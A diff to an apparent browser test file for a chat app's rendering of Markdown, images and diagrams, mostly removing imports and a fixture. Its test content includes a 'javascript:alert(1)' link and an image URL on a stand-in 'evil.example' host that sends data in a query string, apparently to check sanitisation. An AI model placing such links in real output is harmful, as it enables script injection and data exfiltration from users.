@@ -1,22 +1,19 @@
-"""What an answer looks like: Markdown, code, formulas, diagrams, images, thoughts, figures; finished and as it grows."""
+"""What an answer looks like: Markdown, code, formulas, diagrams, images, thoughts, figures; as it grows, and whole."""
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
 
 import pytest
 from playwright.async_api import Page, expect
 
 from tests.fakes.fake_tool_model import Move
 from tests.support.page_browser import PHONE, open_context, send_message
-from tests.support.spoken_stack import SpokenStack, message, spoken_stack
+from tests.support.spoken_stack import SpokenStack, message
 
 pytestmark = [pytest.mark.engines, pytest.mark.slow]
 
-PIXEL = (
-    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
-)
+PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
 RICH = f"""# Heading
 
 Some **bold** text, `code`, a [link](https://example.org/a) and a [bad one](javascript:alert(1)).
@@ -56,13 +53,6 @@ graph nonsense ((
 
 ![secret](https://evil.example/leak.png?data=1)
 """
-
-
-@pytest.fixture(scope="module")
-def spoken(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SpokenStack]:
-    """A stack whose model says what a test decides."""
-    with spoken_stack(tmp_path_factory.mktemp("messages"), {}) as stack:
-        yield stack
 
 
 async def open_conversation(page: Page, name: str) -> None:
